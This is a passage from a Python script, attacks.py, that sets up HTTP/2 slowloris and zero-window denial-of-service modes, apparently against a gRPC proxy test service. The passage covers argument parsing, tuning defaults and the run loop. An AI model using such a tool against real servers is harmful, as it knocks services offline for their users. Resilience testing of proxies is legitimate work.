    ap.add_argument("--idle", action="store_true", help="slowloris: handshake, then silence")
    ap.add_argument("--streams", type=int, default=100, help="zero-window: streams per connection (default 100)")
    ap.add_argument("--messages", type=int, default=64,
                    help="zero-window: StreamRequest.count, messages per response (default 64)")
    ap.add_argument("--message-size", type=int, default=16384,
                    help="zero-window: StreamRequest.size, bytes per message (default 16384)")
    body = ap.add_mutually_exclusive_group()
    body.add_argument("--body-hex", help="zero-window: request message as hex, instead of a StreamRequest")
    body.add_argument("--body-size", type=int,
                      help="zero-window: request message of N filler bytes (for echo methods)")
    a = ap.parse_args()

    if a.connections is None:
        a.connections = 50 if a.attack == "slowloris" else 1
    if a.path is None:
        a.path = "/proxytest.Test/ServerStream" if a.attack == "zero-window" else "/proxytest.Test/Unary"
    if a.read is None:
        a.read = ATTACKS[a.attack].reads
    if a.rcvbuf is None and not a.read:
        a.rcvbuf = 4096  # the server's replies pile up on its side after a few KB
    if a.connections < 1 or a.duration <= 0 or a.interval <= 0 or (a.rate is not None and a.rate <= 0):
        ap.error("--connections, --duration, --interval and --rate must be positive")
    if not 64 <= a.entry_size <= 16000:
        ap.error("--entry-size must be within 64..16000")
    if a.body_hex is not None:
        try:
            bytes.fromhex(a.body_hex)
        except ValueError:
            ap.error("--body-hex is not hex")

    run = Run(a)
    run.first_connect()
    try:
        run.loop()
    except KeyboardInterrupt:
        run.fatal = "interrupted"
        run.elapsed = time.monotonic() - run.t_start
    ok = run.fatal is None and run.ready_conns > 0
    done = {"event": "done", "ok": ok, **run.summary()}
    if not ok:
        done["error"] = run.fatal or "no connection completed the HTTP/2 handshake"
        sys.stderr.write("attacks.py: error: %s\n" % done["error"])
    emit(done)
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    main()
